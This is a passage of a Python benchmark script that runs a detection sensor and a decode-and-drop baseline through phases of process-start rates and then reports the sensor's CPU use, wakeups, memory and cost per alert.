                    help="the sensor's [sensor] commit_delay_s (default: the tree's own default)")
    args = ap.parse_args()
    if args.child == "sensor":
        return child_sensor(args.config)
    if args.child == "floor":
        return child_floor()
    global BURST_S
    BURST_S = args.flush_ms / 1000.0
    rates = [float(r) for r in args.rates.split(",")]
    if args.quick:
        rates = [r for r in rates if r <= 1000]
        args.seconds, args.fast_seconds, args.rest_seconds = 5.0, 3.0, 15.0
    with tempfile.TemporaryDirectory() as tmp:
        if args.workdir:
            tmp = args.workdir
            os.makedirs(tmp, exist_ok=True)
        pack = compile_pack(args.rules, tmp)
        benign, alerting, info = label(pack)
        print(f"rules: {info['rules']}; benign templates {len(benign)} (left out {info['benign_left_out']}), "
              f"alerting {len(alerting)} (left out {info['alerting_left_out']}): "
              f"alerts per alerting start {info['alerts_per_alerting_start']}", file=sys.stderr)
        phases = []
        for frac in (0.0,) + ((args.alert_frac,) if args.alert_frac else ()):   # 0: no alerting phases
            for r in rates:
                if r == 0 and frac:
                    continue
                dur = args.rest_seconds if r == 0 else (args.fast_seconds if r >= 1000 else args.seconds)
                phases.append((("rest" if r == 0 else f"{r:g}/s") + (f" {frac:.0%} alerting" if frac else ""),
                               r, dur, frac))
        results = {}
        for kind in ("floor", "sensor"):
            rec = Records()
            argv = [sys.executable, str(Path(__file__).resolve()), "--child", kind]
            if kind == "sensor":
                argv += ["--config", write_config(tmp, pack, args.flush_ms, args.spool_sync, args.batch_wait_ms,
                                                    args.commit_delay)]
            print(f"{kind}:", file=sys.stderr, flush=True)
            if kind == "sensor" and args.profile:
                os.environ["LIVE_COST_PROFILE"] = os.path.abspath(args.profile)
            if kind == "sensor" and args.sections:
                os.environ["LIVE_COST_SECTIONS"] = os.path.abspath(args.sections)
            names_path = None
            if kind == "sensor" and args.threads:
                names_path = os.path.join(tmp, "threads.json")
                os.environ["LIVE_COST_THREADS"] = names_path
            child = Child(argv, rec.header(), os.path.join(tmp, f"{kind}.log"))
            child.write(rec.rundown(time.time()))
            run = [p for p in phases if kind == "sensor" or not p[3]]
            spool = os.path.join(tmp, "data", "spool.sqlite") if kind == "sensor" else None
            results[kind] = run_phases(child, rec, run, benign, alerting, names_path, spool)
            code = child.stop()
            results[kind + "_exit"] = code
            if kind == "sensor":
                try:
                    with open(os.path.join(tmp, "data", "status.json")) as fh:
                        st = json.load(fh)
                    results["sensor_status"] = {k: st.get(k) for k in ("events", "alerts", "matcher", "spool", "delivery")}
                except OSError as exc:
                    results["sensor_status"] = {"error": str(exc)}
        report(results, info, args)
    return 0


def report(results: dict, info: dict, args) -> None:
    floor = {p["rate"]: p for p in results["floor"]}
    rows = []
    for p in results["sensor"]:
        f = floor.get(p["rate"])
        row = dict(p)
        row["floor_cpu_pct"] = f["cpu_pct"] if f else None
        row["floor_us_per_start"] = f["us_per_start"] if f else None
        row["floor_wakeups_per_s"] = f["wakeups_per_s"] if f else None
        row["net_cpu_pct"] = p["cpu_pct"] - f["cpu_pct"] if f else None
        row["net_us_per_start"] = (p["us_per_start"] - (f["us_per_start"] or 0)) if f and p["starts"] else None
        row["ratio"] = p["cpu_ms"] / f["cpu_ms"] if f and f["cpu_ms"] > 0 else None
        rows.append(row)
    # per alert: the extra CPU of the alerting phase over the benign phase of the same rate
    by = {(r["rate"], r["alert_frac"] > 0): r for r in rows}
    st = results.get("sensor_status", {})
    alerts_total = ((st.get("alerts") or {}).get("total")) if isinstance(st, dict) else None
    starts_alerting = sum(r["alerting_starts"] for r in rows)
    alerts_per_start = alerts_total / starts_alerting if alerts_total and starts_alerting else None
    for r in rows:
        base = by.get((r["rate"], False))
        if r["alert_frac"] and base and r["alerting_starts"] and alerts_per_start:
            extra = r["cpu_ms"] * 1e3 - base["us_per_start"] * r["starts"] if base["us_per_start"] else None
            r["us_per_alert"] = extra / (r["alerting_starts"] * alerts_per_start) if extra is not None else None
    out = {"rules": info["rules"], "alerts_per_alerting_start": info["alerts_per_alerting_start"],
           "alerts_total": alerts_total, "alerts_per_alerting_start_measured": alerts_per_start,
           "sensor_exit": results.get("sensor_exit"), "rows": rows, "sensor_status": st}
    if args.json:
        print(json.dumps(out, indent=2, default=str))
        return
    print(f"live cost: {info['rules']} rules (+ the built-in one), bursts every {BURST_S * 1000:.0f} ms; "
          f"CPU = sum of the sensor's threads' run time; floor = decode-and-drop in the same run")
    print(f"{'workload':<26} {'CPU %':>8} {'floor %':>8} {'us/start':>9} {'floor':>7} {'net':>8} "
          f"{'x floor':>7} {'us/alert':>9} {'wake/s':>7} {'floor':>6} {'RSS MB':>7}")
    for r in rows:
        def f(v, w, d=1):
            return f"{v:>{w}.{d}f}" if isinstance(v, (int, float)) else f"{'-':>{w}}"
        print(f"{r['phase']:<26} {f(r['cpu_pct'], 8, 3)} {f(r['floor_cpu_pct'], 8, 3)} {f(r['us_per_start'], 9)} "
              f"{f(r['floor_us_per_start'], 7)} {f(r['net_us_per_start'], 8)} {f(r['ratio'], 7, 2)} "
              f"{f(r.get('us_per_alert'), 9)} {f(r['wakeups_per_s'], 7)} {f(r['floor_wakeups_per_s'], 6)} "
              f"{f(r['rss_mb'], 7)}")
    ev = (st.get("events") or {}) if isinstance(st, dict) else {}
    print(f"alerts: {alerts_total} from {starts_alerting} alerting starts; events matched {ev.get('in')} of "
          f"{sum(r['starts'] for r in rows)} starts, dropped (queues full) {ev.get('queue_dropped')}; "
          f"sensor exit {results.get('sensor_exit')}")


if __name__ == "__main__":
    sys.exit(main())
